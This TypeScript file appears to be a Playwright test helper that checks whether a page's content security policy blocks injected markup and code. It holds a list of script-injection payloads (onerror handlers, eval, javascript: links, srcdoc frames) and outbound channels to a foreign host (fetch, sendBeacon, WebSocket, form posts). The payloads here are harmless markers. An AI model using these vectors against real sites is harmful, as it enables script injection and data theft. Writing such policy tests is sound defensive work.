export interface Outcome {
  readonly payload: string;
  /** The browser threw, or reported a breach of the policy, and nothing ran. */
  readonly blocked: boolean;
}

/**
 * Runs in the page and does what markup or code smuggled into it would try: run script, or send data to `foreign`.
 * Self-contained, because Playwright hands it to the browser as text.
 */
export async function attack(foreign: string): Promise<Outcome[]> {
  const mark = (): boolean => Reflect.get(globalThis, 'pwned') === true;
  const RUN = 'globalThis.pwned = true';
  const put = (tag: string, fill: (element: HTMLElement) => void): void => {
    const element = document.createElement(tag);
    fill(element);
    document.body.append(element);
  };
  const form = (): HTMLFormElement => {
    const element = document.createElement('form');
    element.action = foreign;
    element.method = 'post';
    document.body.append(element);
    return element;
  };
  const PAYLOADS: Record<string, () => unknown> = {
    'markup with a handler': () => (document.body.innerHTML += `<img src="x" onerror="${RUN}">`),
    'handler attribute': () => {
      put('button', (button) => {
        button.setAttribute('onclick', RUN);
        button.click();
      });
    },
    'inline script': () => {
      put('script', (script) => {
        script.append(RUN);
      });
    },
    'foreign script': () => {
      put('script', (script) => {
        script.setAttribute('src', foreign);
      });
    },
    'script frame': () => {
      put('iframe', (frame) => {
        frame.setAttribute('srcdoc', `<script>parent.${RUN}</script>`);
      });
    },
    'foreign frame': () => {
      put('iframe', (frame) => {
        frame.setAttribute('src', foreign);
      });
    },
    object: () => {
      put('object', (object) => {
        object.setAttribute('data', foreign);
      });
    },
    'inline style': () => {
      put('style', (style) => {
        style.append('body { display: none }');
      });
    },
    'foreign style': () => {
      put('link', (link) => {
        link.setAttribute('rel', 'stylesheet');
        link.setAttribute('href', foreign);
      });
    },
    base: () => {
      put('base', (base) => {
        base.setAttribute('href', foreign);
      });
    },
    eval: () => globalThis.eval(RUN) as unknown,
    'new Function': () =>
      Reflect.apply(Reflect.construct(Function, [RUN]), undefined, []) as unknown,
    'timer with text': () => Reflect.apply(setTimeout, globalThis, [RUN, 0]) as unknown,
    'javascript: address': () => {
      const link = document.createElement('a');
      link.href = `javascript:${RUN}`;
      link.click();
    },
    'foreign module': () => import(/* @vite-ignore */ `${foreign}x.js`),
    'foreign worker': () => new Worker(`${foreign}x.js`),
    'data: worker': () => new Worker(`data:text/javascript,${RUN}`),
    fetch: () => fetch(foreign),
    beacon: () => navigator.sendBeacon(foreign, 'x'),
    socket: () => new WebSocket(foreign.replace('http', 'ws')),
    image: () => (new Image().src = foreign),
    'foreign form': () => {
      form().submit();
    },
  };

  let reports = 0;
  document.addEventListener('securitypolicyviolation', () => (reports += 1));
  const pause = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 100));
  /** Some breaches are reported late by a busy browser; one that is never reported is not blocked. */
  const reported = async (before: number): Promise<void> => {
    for (let waited = 0; reports === before && waited < 100; waited++) await pause();
  };
  // The debugger, which calls us, is above the policy for as long as it waits in one turn.
  await pause();
  const outcomes: Outcome[] = [];
  for (const [payload, run] of Object.entries(PAYLOADS)) {
    const before = reports;
    let threw = false;
    try {
      await Promise.race([run(), pause()]);
    } catch {
      threw = true;
    }
    if (!threw) await reported(before);
    await pause();
    outcomes.push({ payload, blocked: (threw || reports > before) && !mark() });
  }
  return outcomes;
}
